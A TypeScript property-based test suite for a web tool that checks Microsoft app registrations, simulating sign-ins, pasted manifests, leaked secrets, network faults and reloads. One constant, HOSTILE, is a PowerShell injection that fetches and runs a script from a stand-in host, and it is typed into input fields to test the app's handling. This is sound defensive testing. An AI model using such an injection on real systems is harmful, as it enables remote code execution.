import fc from 'fast-check';
import type { Field } from '../../../src/ui/session/case';
import { compared } from '../../../src/ui/session/comparing';
import { guide } from '../../ui/session/office';
import { SECRET, TOKEN, type Desk } from './desk';
import { exchangeOf, manifestOf, outputOf, ownServerOf, SALT } from './drawer';
import { holds, registrationIn } from './invariants';
import type { Model } from './model';
import { demos } from '../../../src/emulator/tenants';
import type { Party } from './parties';

type Real = Exclude<Party, 'demo'>;
type Firm = 'alphawerk' | 'bravotec';

/** Something done at the desk; afterwards everything must still hold. */
class Deed implements fc.AsyncCommand<Model, Desk> {
  constructor(
    private readonly name: string,
    private readonly act: (model: Model, desk: Desk) => Promise<unknown>,
  ) {}

  check() {
    return true;
  }

  async run(model: Model, desk: Desk) {
    const { told } = desk.office;
    await desk.unhurried(() => this.act(model, desk));
    if (desk.office.told > told) model.answered();
    await holds(model, desk);
  }

  toString() {
    return this.name;
  }
}

type Act = (model: Model, desk: Desk) => Promise<unknown>;
const deed = (name: string, act: Act) => new Deed(name, act);

const firm = fc.constantFrom<Firm>('alphawerk', 'bravotec');
const account = fc.constantFrom<Real>('alphawerk', 'bravotec', 'gustav');

/** A checker app of the customer's own is known in its directory only: without it there is no way to Microsoft. */
const hasDoor = ({ store }: Desk) => store.case.typed.signInClientId === '' || store.case.typed.tenant !== '';

const signIn =
  (who: Real): Act =>
  async (model, desk) => {
    desk.office.account = desk.firm(who);
    const isOpen = hasDoor(desk);
    await desk.session.signingIn.popup();
    if (isOpen) model.signIn(who);
  };

/** Beside a report somebody signs in whose directory cannot be read: only what the report says can tell them apart. */
const signInUnread =
  (at: number, who: Real): Act =>
  async (model, desk) => {
    await openReport(at)(model, desk);
    desk.office.fault = faults.organization;
    desk.office.account = desk.firm(who);
    const isOpen = hasDoor(desk);
    await desk.session.signingIn.popup();
    desk.office.fault = undefined;
    if (isOpen) model.signIn(who, true);
  };

const refused: Act = async (_, desk) => {
  desk.office.account = undefined;
  await desk.session.signingIn.popup();
};

const openReport =
  (at: number): Act =>
  async (model, desk) => {
    const saved = desk.saved(at);
    await desk.session.intake.takeFile(new TextEncoder().encode(saved.text).buffer, 'bericht.json');
    model.begin([{ of: saved.of, as: saved.isHidden ? 'hidden' : saved.isSilent ? 'silent' : 'report' }]);
    if (saved.isHidden && saved.of === 'demo') model.hand({ of: 'demo', as: 'hidden' });
    for (const number of saved.ticks) model.tick(number, registrationIn(desk));
  };

const pasteManifest =
  (of: Firm, as: 'manifest' | 'output'): Act =>
  async (model, desk) => {
    const text = as === 'manifest' ? manifestOf(desk.firm(of)) : await outputOf(desk.firm(of), desk.office.now());
    const { evidence } = desk.store.case;
    await desk.session.intake.takeText(text);
    // What contradicts the case begins another one; where it did not although it should, two directories are shown as one.
    const isNew = evidence.length > 0 && !desk.store.case.evidence.some((piece) => evidence.includes(piece));
    const isSame = desk.store.case.typed.clientId !== '';
    if (isNew) model.begin([], isSame ? ['clientId'] : []);
    model.hand({ of, as });
  };

const pasteExchange =
  (of: Party, kind: 'own' | 'cloud'): Act =>
  async (model, desk) => {
    const one = desk.firm(of === 'demo' ? 'alphawerk' : of);
    await desk.session.intake.takeText(kind === 'own' ? ownServerOf(one) : exchangeOf(one.name, [one.appId]));
    model.hand({ of: of === 'demo' ? 'alphawerk' : of, as: 'exchange' });
  };

/** What is confidential goes as it comes: alone, in a longer text, in a file, in any field. */
const confide =
  (what: 'secret' | 'token', where: number): Act =>
  async (_, desk) => {
    const text = what === 'secret' ? SECRET : TOKEN;
    const longer = `Guten Tag,\nhier ist der Wert: ${text}\nViele Grüße`;
    const { intake, entry } = desk.session;
    const fields: Field[] = ['clientId', 'domain', 'tenant', 'signInClientId', 'secretStart'];
    if (where === 0) await intake.takeText(text);
    else if (where === 1) await intake.takeText(longer);
    else if (where === 2) await intake.takeFile(new TextEncoder().encode(longer).buffer, 'mail.txt');
    else if (where === 3) {
      const log = { entries: [{ request: { headers: [{ name: 'Authorization', value: `Bearer ${TOKEN}` }] } }] };
      await intake.takeFile(new TextEncoder().encode(JSON.stringify({ log })).buffer, 'netz.har');
    } else entry.type(fields[where % fields.length] ?? 'domain', text);
  };

const valueOf = (field: Field, of: Party, desk: Desk): string => {
  const demo = demos['fertig']?.inputs;
  const one = of === 'demo' ? { appId: '', domain: '', start: '', tenantId: '', ...demo } : desk.firm(of);
  const appId = of === 'demo' ? (demo?.clientId ?? '') : one.appId;
  const values: Partial<Record<Field, string>> = {
    clientId: appId,
    domain: one.domain,
    secretStart: of === 'demo' ? (demo?.secretStart ?? '') : one.start,
    tenant: one.tenantId,
    signInClientId: one.appId,
  };
  return values[field] ?? '';
};

const type =
  (field: Field, of: Party | undefined): Act =>
  async (model, desk) => {
    desk.session.entry.type(field, of ? valueOf(field, of, desk) : '');
    model.type(field, of);
    if (field !== 'clientId') return;
    const { told } = desk.office;
    await desk.session.reader.reread();
    if (desk.office.told > told) model.answered();
  };

const HOSTILE = "x'; iwr https://boese.example/x.ps1 | iex; $z='";

const typeHostile: Act = async (_, desk) => {
  desk.session.entry.fill({ clientId: HOSTILE, domain: `${HOSTILE}.de` });
  await desk.session.reader.reread();
};

const typeAll =
  (of: Firm): Act =>
  async (model, desk) => {
    for (const field of ['clientId', 'domain', 'secretStart'] as const) await type(field, of)(model, desk);
  };

const tick =
  (number: string, on: boolean): Act =>
  async (model, desk) => {
    desk.session.entry.tick(number, on);
    if (on) model.tick(number, registrationIn(desk));
    else model.untick(number);
  };

const choose =
  (at: number): Act =>
  async (_, desk) => {
    const { choices } = desk.store.view;
    const one = choices[at % Math.max(1, choices.length)];
    if (one) await desk.session.entry.choose(one.appId);
  };

const accept: Act = async (model, desk) => {
  const red = desk.store.view.results.find(({ status }) => status === 'fail');
  if (!red) return;
  const until = new Date(desk.office.now().getTime() + 5e9).toISOString().slice(0, 10);
  desk.session.entry.setAside({ number: red.number, kind: red.kind, reason: 'vereinbart', until });
  model.accepted += 1;
};

const takeUp: Act = async (model, desk) => {
  for (const { number } of desk.store.case.accepted) desk.session.entry.takeUp(number);
  model.accepted = 0;
};

const compare =
  (at: number): Act =>
  async (model, desk) => {
    const saved = desk.saved(at);
    const given = { guide, view: desk.store.view, salt: SALT, now: desk.office.now() };
    const found = await compared(saved.text, 'frueher.json', given);
    desk.session.entry.compare(found);
    if (!('changes' in found)) return;
    model.compared = saved.isHidden ? undefined : saved.of;
    desk.compared = { text: saved.text, file: 'frueher.json' };
  };

const json = (status: number, body: unknown, headers = {}) =>
  new Response(JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json', ...headers } });

const faults = {
  none: () => undefined,
  offline: () => Promise.reject(new TypeError('Failed to fetch')),
  forbidden: () => json(403, { error: { code: 'Authorization_RequestDenied', message: '' } }),
  busy: () => json(503, { error: { code: 'ServiceUnavailable', message: '' } }, { 'Retry-After': '0' }),
  nonsense: () => new Response('<html>', { status: 200 }),
  applications: (path: string) => (/application/i.test(path) ? json(403, { error: { code: 'x' } }) : undefined),
  organization: (path: string) => (path.includes('organization') ? new Response('[', { status: 200 }) : undefined),
} as const;

const readUnder =
  (fault: keyof typeof faults): Act =>
  async (_, desk) => {
    desk.office.fault = faults[fault];
    await desk.session.reader.read();
    desk.office.fault = undefined;
  };

const gate = () => {
  let open = (): void => undefined;
  const closed = new Promise<undefined>((resolve) => (open = () => resolve(undefined)));
  return { closed, open: () => open() };
};

const soon = () => new Promise((resolve) => setTimeout(resolve));

/** Somebody signs in, the reading takes its time, and something else is done meanwhile. */
const meanwhile =
  (who: Real, act: Act): Act =>
  async (model, desk) => {
    const { closed, open } = gate();
    desk.office.fault = () => closed as Promise<never>;
    desk.office.account = desk.firm(who);
    const isOpen = hasDoor(desk);
    const reading = desk.session.signingIn.popup();
    for (let left = 50; left > 0 && !desk.store.case.reading; left -= 1) await soon();
    if (isOpen) model.signIn(who);
    desk.office.fault = undefined;
    await act(model, desk);
    open();
    await reading;
    await soon();
  };

/** Microsoft's window stays open for a while, and something else is done meanwhile. */
const beforeSignIn =
  (who: Real, act: Act): Act =>
  async (model, desk) => {
    const { closed, open } = gate();
    desk.office.window = closed;
    desk.office.account = desk.firm(who);
    const isOpen = hasDoor(desk);
    const { ends } = model;
    const signedIn = desk.session.signingIn.popup();
    await soon();
    await act(model, desk);
    desk.office.window = undefined;
    open();
    await signedIn;
    if (isOpen && model.ends === ends) model.signIn(who);
  };

/** A file takes its time to be recognised, and something else is done meanwhile. */
const whileRecognised =
  (of: Firm, act: Act): Act =>
  async (model, desk) => {
    const { turn } = model;
    const text = exchangeOf(desk.firm(of).name, [desk.firm(of).appId]);
    const taking = desk.session.intake.takeFile(new TextEncoder().encode(text).buffer, 'ews.txt');
    await act(model, desk);
    await taking;
    if (model.turn === turn) model.hand({ of, as: 'exchange' });
  };

const followLink =
  (of: Firm): Act =>
  async (model, desk) => {
    const { appId, domain } = desk.firm(of);
    await desk.session.entry.follow({ clientId: appId, domain });
    for (const field of ['clientId', 'domain'] as const) model.type(field, of);
  };

const comeBack: Act = async (_, desk) => {
  await desk.session.comeBack();
  desk.before = undefined;
};

const cancelled: Act = async (_, desk) => {
  desk.office.fault = () => new Promise<never>(() => undefined);
  const reading = desk.session.reader.read();
  await soon();
  desk.session.cancel();
  await reading;
  desk.office.fault = undefined;
};

const moveClock =
  (days: number): Act =>
  async (_, desk) => {
    desk.office.offset += days * 86_400_000;
    desk.before = desk.store.view.results;
  };

const end =
  (how: 'signOut' | 'newCase'): Act =>
  async (model, desk) => {
    await desk.session[how]();
    model.end();
  };

const demo =
  (name: string): Act =>
  async (model, desk) => {
    await desk.session.demo(name);
    model.signIn('demo');
    for (const field of ['clientId', 'domain', 'secretStart'] as const) model.type(field, 'demo');
  };

/** The page is loaded anew: what the tab keeps, and whom Microsoft remembers, is all that is left. */
const reload: Act = async (model, desk) => {
  const { owner, typed, remembered, handed } = model;
  const isTyped = !handed.some(({ of, as }) => of === 'demo' || as === 'report' || as === 'silent' || as === 'hidden');
  await desk.office.reload();
  if (isTyped) {
    model.begin(handed.filter(({ as }) => as === 'exchange'));
    [model.typed, model.owner] = [typed, owner];
  } else model.begin([], ['tenant', 'signInClientId']);
  if (remembered && hasDoor(desk)) model.signIn(remembered);
};

const inner = fc.oneof(
  fc.nat(20).map((at) => [`open report ${String(at)}`, openReport(at)] as const),
  firm.map((of) => [`type ${of}`, typeAll(of)] as const),
  firm.map((of) => [`paste Exchange of ${of}`, pasteExchange(of, 'cloud')] as const),
  firm.map((of) => [`paste manifest of ${of}`, pasteManifest(of, 'manifest')] as const),
  fc.constantFrom('8.1', '12.2').map((number) => [`tick ${number}`, tick(number, true)] as const),
  fc.constant(['new case', end('newCase')] as const),
);

const FIELDS: readonly Field[] = ['clientId', 'domain', 'secretStart', 'tenant', 'signInClientId'];

/** Everything that can be done at a desk, the everyday more often; the first is what a failing session is reduced to. */
export const deeds = fc.oneof(
  { withCrossShrink: true },
  { weight: 1, arbitrary: fc.constant(deed('wait', async () => undefined)) },
  { weight: 5, arbitrary: account.map((who) => deed(`sign in ${who}`, signIn(who))) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.nat(20), account)
      .map(([at, who]) => deed(`open report ${String(at)}, sign in ${who}, unread`, signInUnread(at, who))),
  },
  { weight: 1, arbitrary: fc.constant(deed('refused', refused)) },
  { weight: 5, arbitrary: fc.nat(20).map((at) => deed(`open report ${String(at)}`, openReport(at))) },
  { weight: 3, arbitrary: firm.map((of) => deed(`paste manifest of ${of}`, pasteManifest(of, 'manifest'))) },
  { weight: 3, arbitrary: firm.map((of) => deed(`paste output of ${of}`, pasteManifest(of, 'output'))) },
  { weight: 4, arbitrary: firm.map((of) => deed(`paste Exchange of ${of}`, pasteExchange(of, 'cloud'))) },
  { weight: 1, arbitrary: firm.map((of) => deed(`paste own server of ${of}`, pasteExchange(of, 'own'))) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.constantFrom('secret' as const, 'token' as const), fc.nat(8))
      .map(([what, where]) => deed(`confide ${what} ${String(where)}`, confide(what, where))),
  },
  { weight: 4, arbitrary: firm.map((of) => deed(`type all of ${of}`, typeAll(of))) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.constantFrom(...FIELDS), fc.option(fc.constantFrom<Party>('alphawerk', 'bravotec', 'demo')))
      .map(([field, of]) => deed(`type ${field} of ${String(of)}`, type(field, of ?? undefined))),
  },
  { weight: 1, arbitrary: fc.constant(deed('type something hostile', typeHostile)) },
  {
    weight: 4,
    arbitrary: fc
      .tuple(fc.constantFrom('8.1', '12.2'), fc.boolean())
      .map(([number, on]) => deed(`tick ${number} ${String(on)}`, tick(number, on))),
  },
  { weight: 1, arbitrary: fc.nat(3).map((at) => deed(`choose ${String(at)}`, choose(at))) },
  { weight: 1, arbitrary: fc.constantFrom(deed('accept', accept), deed('take up', takeUp)) },
  { weight: 2, arbitrary: fc.nat(20).map((at) => deed(`compare ${String(at)}`, compare(at))) },
  {
    weight: 3,
    arbitrary: fc
      .constantFrom(...(Object.keys(faults) as (keyof typeof faults)[]))
      .map((fault) => deed(`read, ${fault}`, readUnder(fault))),
  },
  {
    weight: 4,
    arbitrary: fc
      .tuple(account, inner)
      .map(([who, [name, act]]) => deed(`while ${who} is read: ${name}`, meanwhile(who, act))),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(account, inner)
      .map(([who, [name, act]]) => deed(`before ${who} is signed in: ${name}`, beforeSignIn(who, act))),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        firm,
        fc.oneof(
          inner,
          account.map((who) => [`sign in ${who}`, signIn(who)] as const),
        ),
      )
      .map(([of, [name, act]]) => deed(`while a file of ${of} is recognised: ${name}`, whileRecognised(of, act))),
  },
  { weight: 1, arbitrary: firm.map((of) => deed(`follow a link of ${of}`, followLink(of))) },
  { weight: 1, arbitrary: fc.constant(deed('come back', comeBack)) },
  { weight: 1, arbitrary: fc.constant(deed('cancelled', cancelled)) },
  { weight: 1, arbitrary: fc.constantFrom(1, 40, 400).map((days) => deed(`${String(days)} days`, moveClock(days))) },
  { weight: 1, arbitrary: fc.constantFrom(deed('sign out', end('signOut')), deed('new case', end('newCase'))) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('fertig', 'abgelaufen', 'leer').map((name) => deed(`demo ${name}`, demo(name))),
  },
  { weight: 2, arbitrary: fc.constant(deed('reload', reload)) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(firm, fc.constantFrom('secret' as const, 'revoke' as const, 'grant' as const, 'second' as const))
      .map(([of, what]) => deed(`${of} meanwhile: ${what}`, async (_, desk) => desk.administer(of, what))),
  },
);
